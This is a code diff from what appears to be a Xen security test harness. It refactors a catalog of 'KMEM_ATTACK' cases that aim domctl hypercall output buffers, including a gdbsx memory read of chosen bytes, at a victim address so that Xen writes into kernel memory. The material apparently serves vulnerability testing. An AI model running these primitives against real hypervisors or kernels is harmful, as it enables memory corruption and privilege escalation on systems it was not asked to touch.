@@ -14,41 +14,23 @@
      sizeof(((struct xen_domctl *)0)->u.field))
 #define HEADER_ONLY offsetof(struct xen_domctl, u)
 
+/* A row: the operation and its fields. _BACK: as an argument in the kernel. */
+#define KMEM_DOMCTL(id, title, command, ...)                                   \
+    KMEM_ATTACK(id, title)                                                     \
+    {                                                                          \
+        struct xen_domctl op = { .cmd = XEN_DOMCTL_##command, __VA_ARGS__ };   \
+                                                                               \
+        return domctl(&op);                                                    \
+    }
+#define KMEM_DOMCTL_BACK(id, title, command, input, ...)                       \
+    KMEM_ATTACK(id, title)                                                     \
+    {                                                                          \
+        struct xen_domctl op = { .cmd = XEN_DOMCTL_##command, __VA_ARGS__ };   \
+                                                                               \
+        return domctl_in_host_name(op, input);                                 \
+    }
+
 /* ---- into a buffer ---- */
-
-/* U-KMEM-VCPUAFF: a bit for each CPU, and then zeros, as many as wanted. */
-KMEM_ATTACK("U-KMEM-VCPUAFF", "a vCPU's affinity into the kernel")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_getvcpuaffinity };
-
-    op.u.vcpuaffinity.flags = XEN_VCPUAFFINITY_HARD;
-    op.u.vcpuaffinity.cpumap_hard.bitmap.p = AT_VICTIM;
-    op.u.vcpuaffinity.cpumap_hard.nr_bits = 64;
-    return domctl(&op);
-}
-
-/* U-KMEM-NODEAFF: a bit for each NUMA node, and then zeros. */
-KMEM_ATTACK("U-KMEM-NODEAFF", "a domain's NUMA nodes into the kernel")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_getnodeaffinity };
-
-    op.u.nodeaffinity.nodemap.bitmap.p = AT_VICTIM;
-    op.u.nodeaffinity.nodemap.nr_bits = 64;
-    return domctl(&op);
-}
-
-/*
- * U-KMEM-PAGEINFO: 8 bytes, the type of the frame whose number was there
- * before; of what is no frame, that it is none.
- */
-KMEM_ATTACK("U-KMEM-PAGEINFO", "the types of frames into the kernel")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_getpageframeinfo3 };
-
-    op.u.getpageframeinfo3.array.p = AT_VICTIM;
-    op.u.getpageframeinfo3.num = 1;
-    return domctl(&op);
-}
 
 /*
  * U-KMEM-VCPUCTX: 5 KB, the registers and tables of a vCPU. What runs there is
@@ -104,19 +86,6 @@ KMEM_ATTACK("U-KMEM-VCPUMSRS", "a vCPU's machine registers into the kernel")
     return domctl_in_host_name(op, UP_TO(vcpu_msrs));
 }
 
-/*
- * U-KMEM-DOMPOLICY: 24 bytes for each CPUID leaf of a domain, most of which can
- * be set before.
- */
-KMEM_ATTACK("U-KMEM-DOMPOLICY", "a domain's CPUID leaves into the kernel")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_cpu_policy };
-
-    op.u.cpu_policy.leaves.p = AT_VICTIM;
-    op.u.cpu_policy.nr_leaves = 1;
-    return domctl(&op);
-}
-
 /* U-KMEM-HVMCTX: the whole state of an HVM domain, which can be set before. */
 KMEM_ATTACK("U-KMEM-HVMCTX", "an HVM domain's state into the kernel")
 {
@@ -131,34 +100,6 @@ KMEM_ATTACK("U-KMEM-HVMCTX", "an HVM domain's state into the kernel")
     return domctl(&op);
 }
 
-/* U-KMEM-HVMPART: one record of it. */
-KMEM_ATTACK("U-KMEM-HVMPART", "part of an HVM domain's state into the kernel")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_gethvmcontext_partial };
-
-    op.domain = other_domain(DOMU_HVM);
-    op.u.hvmcontext_partial.type = HVM_SAVE_CODE(VMCE_VCPU);
-    op.u.hvmcontext_partial.bufsz = 40;
-    op.u.hvmcontext_partial.buffer.p = AT_VICTIM;
-    return domctl(&op);
-}
-
-/*
- * U-KMEM-GDBSX: any bytes at all.
- *
- * gdbsx reads a domain's memory for a debugger, to an address that the debugger
- * names. Here it reads what the attacker has set as host name.
- */
-KMEM_ATTACK("U-KMEM-GDBSX", "chosen bytes into the kernel by gdbsx's read")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_gdbsx_guestmemio };
-
-    op.u.gdbsx_guest_memio.gva = in_host_name(new_mark(), MARK_SIZE);
-    op.u.gdbsx_guest_memio.uva = victim();
-    op.u.gdbsx_guest_memio.len = MARK_SIZE;
-    return domctl(&op);
-}
-
 /* ---- back into the argument ---- */
 
 /*
@@ -168,109 +109,13 @@ KMEM_ATTACK("U-KMEM-GDBSX", "chosen bytes into the kernel by gdbsx's read")
 KMEM_ATTACK("U-KMEM-DOMINFO", "an argument in the kernel: getdomaininfo")
 {
     struct xen_domctl op = { .cmd = XEN_DOMCTL_getdomaininfo };
-    struct xen_domctl set = { .cmd = XEN_DOMCTL_setdomainhandle };
     long result;
 
-    memcpy(set.u.setdomainhandle.handle, new_mark(), MARK_SIZE);
-    domctl(&set);
+    set_handle(new_mark());
     result = domctl_in_host_name(op, HEADER_ONLY);
-    memset(set.u.setdomainhandle.handle, 0, MARK_SIZE);
-    domctl(&set);
+    set_handle((char[MARK_SIZE]){ 0 });
 
     return result;
-}
-
-/* U-KMEM-VCPUINFO: 16 bytes about a vCPU. */
-KMEM_ATTACK("U-KMEM-VCPUINFO", "an argument in the kernel: getvcpuinfo")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_getvcpuinfo };
-
-    return domctl_in_host_name(op, UP_TO(getvcpuinfo.vcpu));
-}
-
-/* U-KMEM-EXTCTX: 80 bytes of a vCPU, entry points of the kernel among them. */
-KMEM_ATTACK("U-KMEM-EXTCTX", "an argument in the kernel: get_ext_vcpucontext")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_ext_vcpucontext };
-
-    op.domain = other_domain(DOMU_HVM);
-    return domctl_in_host_name(op, UP_TO(ext_vcpucontext.vcpu));
-}
-
-/* U-KMEM-ADDRSIZE: 4 bytes, the number 64. */
-KMEM_ATTACK("U-KMEM-ADDRSIZE", "an argument in the kernel: get_address_size")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_address_size };
-
-    return domctl_in_host_name(op, HEADER_ONLY);
-}
-
-/*
- * U-KMEM-SCHEDPAR: 4 bytes, a domain's weight and cap, which can be set before.
- */
-KMEM_ATTACK("U-KMEM-SCHEDPAR", "an argument in the kernel: scheduler_op")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_scheduler_op };
-
-    op.u.scheduler_op.sched_id = XEN_SCHEDULER_CREDIT2;
-    op.u.scheduler_op.cmd = XEN_DOMCTL_SCHEDOP_getinfo;
-    return domctl_in_host_name(op, UP_TO(scheduler_op.cmd));
-}
-
-/* U-KMEM-VMEVENT: 4 bytes, a version. Xen asks nobody's leave for this one. */
-KMEM_ATTACK("U-KMEM-VMEVENT", "an argument in the kernel: vm_event_op")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_vm_event_op };
-
-    op.u.vm_event_op.op = XEN_VM_EVENT_GET_VERSION;
-    return domctl_in_host_name(op, UP_TO(vm_event_op.mode));
-}
-
-/* U-KMEM-MONITOR: 4 bytes, the events that can be monitored. */
-KMEM_ATTACK("U-KMEM-MONITOR", "an argument in the kernel: monitor_op")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_monitor_op };
-
-    op.domain = other_domain(DOMU_HVM);
-    op.u.monitor_op.op = XEN_DOMCTL_MONITOR_OP_GET_CAPABILITIES;
-    return domctl_in_host_name(op, UP_TO(monitor_op.op));
-}
-
-/* U-KMEM-TSCINFO: 24 bytes about a domain's clock, which can be set before. */
-KMEM_ATTACK("U-KMEM-TSCINFO", "an argument in the kernel: gettscinfo")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_gettscinfo };
-
-    op.domain = other_domain(DOMU_HVM);
-    return domctl_in_host_name(op, HEADER_ONLY);
-}
-
-/* U-KMEM-MEMPOOL: 8 bytes, the size of a pool, which can be set before. */
-KMEM_ATTACK("U-KMEM-MEMPOOL", "an argument in the kernel: paging_mempool_size")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_paging_mempool_size };
-
-    op.domain = other_domain(DOMU_HVM);
-    return domctl_in_host_name(op, HEADER_ONLY);
-}
-
-/* U-KMEM-SHADOW: the same in megabytes, the older way. */
-KMEM_ATTACK("U-KMEM-SHADOW", "an argument in the kernel: shadow_op")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_shadow_op };
-
-    op.domain = other_domain(DOMU_HVM);
-    op.u.shadow_op.op = XEN_DOMCTL_SHADOW_OP_GET_ALLOCATION;
-    return domctl_in_host_name(op, UP_TO(shadow_op.mode));
-}
-
-/* U-KMEM-DEVGROUP: 4 bytes, how many devices share an IOMMU group. */
-KMEM_ATTACK("U-KMEM-DEVGROUP", "an argument in the kernel: get_device_group")
-{
-    struct xen_domctl op = { .cmd = XEN_DOMCTL_get_device_group };
-
-    op.u.get_device_group.max_sdevs = 1;
-    return domctl_in_host_name(op, UP_TO(get_device_group.max_sdevs));
 }
 
 /*
@@ -302,3 +147,5 @@ KMEM_ATTACK("U-KMEM-CREATE", "an argument in the kernel: createdomain")
 
     return result;
 }
+
+#include "domctl.def"
